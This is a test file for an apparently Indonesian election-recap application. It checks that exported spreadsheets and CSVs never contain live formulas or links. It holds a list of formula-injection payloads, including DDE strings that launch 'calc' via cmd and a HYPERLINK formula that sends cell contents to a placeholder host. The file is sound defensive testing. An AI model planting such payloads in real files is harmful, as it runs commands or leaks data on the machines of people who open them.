"""Names that a spreadsheet would run: no file that leaves the product holds a live formula."""

import csv
import json
import random
import re
import zipfile
from collections.abc import Callable
from io import BytesIO, StringIO
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client

from electcoord.accounts.actions import give_grant
from electcoord.accounts.models import Role
from electcoord.common.commands import write_rows
from electcoord.elections.actions import import_package
from electcoord.elections.packages import read_package
from electcoord.ledger.recording import SYSTEM
from recap import aggregate, workbook
from recap.ballot import Ballot, Group, Line
from recap.workbook import Desa, Template
from tests.cast import Cast
from tests.packages import write_package

pytestmark = pytest.mark.once

PAYLOADS = (
    "=1+1", "+1", "-2+3", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "=cmd|'/C calc.exe'!Z0", "-cmd|'/C calc'!A1",
    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")', "=IMPORTXML(CONCAT(A1),\"//a\")", "=WEBSERVICE(A1)", "=RTD(1;2)",
    '=DDE("cmd";"/C calc";"1")', "@=1+1", "{=1+1}", "=SUM(1,2)*cmd|'/C calc'!A0", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM",
    "=1+1\";\"=2+2", "'=1+1", "\"=1+1\"", "1=1", "nama, biasa", "O'Neil; Siti", "http://contoh.invalid", "mailto:a@b.c",
    "internal:Sheet2!A1", "external:c:\\x.xlsx", "_x003D_1+1", "00123", "1e5", "12,5", "TRUE", "#REF!", "&A&P", "<f>1+1</f>",
    "]]><f>1</f>", "</t></is></c><c><f>1+1</f>", "%0A=1+1",
)  # fmt: skip
BEFORE = (
    "", "\t", "\r", "\n", "\r\n", "\x00", "\x0b", "\x1f", "\x7f", "\x85", " ", "\xa0", "\u200b", "\ufeff", "\u202e", "\u200f",
    "\u2028", "\xad", "\u3000", "'", '"', "\uffff",
)  # fmt: skip
AFTER = ("", "\n=2+2", "\r\n+3", "\t@4", "," + "x" * 400, "\u202e=1+1", "\x00")
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
INVISIBLE = "\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\ufeff\xad \xa0"


def hostile(count: int = 1000) -> list[str]:
    """So many different names, always the same ones; the plain payloads first."""
    every = list(
        dict.fromkeys(b + p + a for a in AFTER for b in BEFORE for p in PAYLOADS if not b + a or p.startswith(RUNS))
    )
    rest = every[len(PAYLOADS) :]
    random.Random("nama").shuffle(rest)
    return [*every[: len(PAYLOADS)], *rest][:count]


NAMES = hostile()


def assert_no_formula(data: bytes, *, has_figures: bool = False) -> None:
    """Neither a cell with a formula nor a link, on reopening and in the XML itself."""
    book = openpyxl.load_workbook(BytesIO(data))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                assert cell.hyperlink is None
                kinds = (str, int) if has_figures else str
                assert cell.value is None or isinstance(cell.value, kinds), "names never become numbers or dates"
    with zipfile.ZipFile(BytesIO(data)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            assert not re.search(rb"<(?:\w+:)?f[\s>/]", part), name
            assert not re.search(rb"<(hyperlink|ddeLink|externalLink|oleObject)[\s>/]", part), name
            assert b"vbaProject" not in name.encode()


def assert_inert(text: str, *, count: int) -> list[list[str]]:
    """No cell of a CSV begins with a sign that runs, whatever invisible sign is before it."""
    rows = list(csv.reader(StringIO(text, newline="")))
    assert len(rows) == count
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(RUNS), ascii(cell)
        assert not cell.lstrip(INVISIBLE).startswith(RUNS), ascii(cell)
        assert not re.search(r"[\x00-\x1f]", cell), "a control splits the cell and runs what follows"
    return rows


def test_a_live_formula_would_be_seen() -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    out = BytesIO()
    book.save(out)
    with pytest.raises(AssertionError):
        assert_no_formula(out.getvalue())
    with pytest.raises(AssertionError):
        assert_inert("\u200b=1+1\n", count=1)


def test_the_list_is_long_and_hostile() -> None:
    assert len(set(NAMES)) == 1000
    assert sum(name.lstrip(INVISIBLE + "\t\r\n").startswith(RUNS) for name in NAMES) > 400


def test_no_name_is_live_in_a_template() -> None:
    third = len(NAMES) // 3
    people, parties, regions = NAMES[:third], NAMES[third : 2 * third], NAMES[2 * third :]
    lines, groups = [], []
    for number, (party, name) in enumerate(zip(parties, people, strict=True), start=1):
        start = len(lines)
        lines += [Line(f"partai_{number}", party, number, None), Line(f"caleg_{number}_1", name, number, 1)]
        groups.append(Group(number, party, start, len(lines)))
    desa = [Desa(f"99010110{n % 100:02d}", name, ((f"99010110{n % 100:02d}001", 1),)) for n, name in enumerate(regions)]
    for some in (desa[at : at + 50] for at in range(0, len(desa), 50)):
        title, place, contest = some[0].name, some[-1].name, some[len(some) // 2].name
        made = Template(
            "uji", title, "dpr", contest, "dpr", "0" * 64, place, "990101", place, "pertama",
            # The whole ballot once; it would be the same on every worksheet.
            Ballot(tuple(lines), tuple(groups)) if some[0] is desa[0] else Ballot((Line("calon_1", title, None, 1),), ()),
            tuple(some[:3] if some[0] is desa[0] else some),
        )  # fmt: skip
        assert_no_formula(workbook.write(made))


def test_no_name_is_live_in_a_csv() -> None:
    out = StringIO()
    rows = [{"kode": str(n), "nama": name, "n": n} for n, name in enumerate(NAMES)]
    write_rows(("kode", "nama", "n"), rows, form="csv", output=None, stream=out)
    read = assert_inert(out.getvalue(), count=len(NAMES) + 1)
    assert all(cells[2] == str(n) for n, cells in enumerate(read[1:]))
    out = StringIO()
    write_rows(("kode", "nama"), rows, form="json", output=None, stream=out)
    assert [row["nama"] for row in json.loads(out.getvalue())] == NAMES


def test_negative_numbers_stay_numbers() -> None:
    out = StringIO()
    write_rows(("n",), [{"n": -3}], form="csv", output=None, stream=out)
    assert out.getvalue() == "n\n-3\n"


def importable() -> list[str]:
    """Names that a package may hold: it refuses what nobody can see."""
    seen = [
        name
        for name in NAMES
        if not re.search("[\x00-\x1f\x7f-\x9f\xad\u061c\u200b-\u200f\u2028-\u202e\ufeff\uffff]", name)
    ]
    return list(dict.fromkeys(name.strip() for name in seen if name == name.strip() and len(name) < 100))


def quoted(*cells: object) -> str:
    out = StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


def test_every_export_of_an_election_with_hostile_names_is_inert(
    cast: Cast, tmp_path: Path, as_person: Callable[[str], Client]
) -> None:
    names = importable()
    assert len(names) > 50
    regions = "".join(
        quoted(code, kind, names[at], parent)
        for at, (code, kind, parent) in enumerate((
            ("99", "provinsi", ""), ("9901", "kabupaten", "99"), ("990101", "kecamatan", "9901"),
            ("990102", "kecamatan", "9901"), ("9901011001", "kelurahan", "990101"), ("9901012002", "desa", "990101"),
            ("9901022001", "desa", "990102"), ("9901022002", "desa", "990102"),
        ))
    )  # fmt: skip
    choices = "".join(quoted("ppwp", "", n, name, "") for n, name in enumerate(names[8:], start=1))
    choices += "".join(
        quoted("dprd_kab_1", n, "", name, "") + quoted("dprd_kab_1", n, 1, name, "L")
        for n, name in enumerate(names[:30], start=1)
    )
    package = write_package(
        tmp_path / "jahat",
        regions="kode,jenis,nama,parent_kode\n" + regions,
        contests=lambda text: "\n".join(text.split("\n")[:3]) + "\n",
        choices="kontes,no_partai,no_urut,nama,jenis_kelamin\n" + choices,
    )
    election, _ = import_package(read_package(package), slug="jahat", actor=SYSTEM)
    give_grant(cast["operator"], role=Role.OPERATOR_SIREKAP, region="9901", election=election, actor=SYSTEM)
    client = as_person("operator")
    for key in ("ppwp", "dprd_kab_1"):
        response = client.get(f"/rekap/jahat/templat/{key}/990101/pertama/")
        assert response.status_code == 200
        assert_no_formula(b"".join(response.streaming_content))
        assert re.fullmatch(r'attachment; filename="[a-z0-9_-]+_entri1\.xlsx"', response["Content-Disposition"])
    aggregate.refresh_stale(election_id=election.pk)
    for key in ("ppwp", "dprd_kab_1"):
        for level, count in (("kabupaten", 1), ("tps", 6)):
            out = StringIO()
            call_command("export_recap", "--election", "jahat", "--contest", key, "--level", level, stdout=out)
            assert_inert(out.getvalue(), count=(count if key == "ppwp" or level != "tps" else 3) + 1)
    for level, count in (("kecamatan", 2), ("desa", 4)):
        out = StringIO()
        call_command("export_recap", "--election", "jahat", "--contest", "ppwp", "--level", level, stdout=out)
        assert_inert(out.getvalue(), count=count + 1)
    for key in ("ppwp", "dprd_kab_1"):
        for code in ("9901", "990101", "9901011001"):
            page = f"/rekap/jahat/kontes/{key}/{code}/unduh"
            assert_no_formula(client.get(f"{page}.xlsx").content, has_figures=True)
            text = client.get(f"{page}.csv?cari={quote(names[2])}").content.decode("utf-8-sig")
            assert_inert(text, count=len(list(csv.reader(StringIO(text)))))
    out = StringIO()
    call_command("check_recap", "--election", "jahat", stdout=out)
    assert_inert(out.getvalue(), count=1)


@pytest.mark.parametrize("name", ["=1+1", "\uff1d1+1", "\u200b=1", "\ufeff+1", "\t-1", "\x85@1"])
def test_a_name_that_runs_gets_an_apostrophe(name: str) -> None:
    out = StringIO()
    write_rows(("n",), [{"n": name}], form="csv", output=None, stream=out)
    assert out.getvalue().startswith("n\n'")
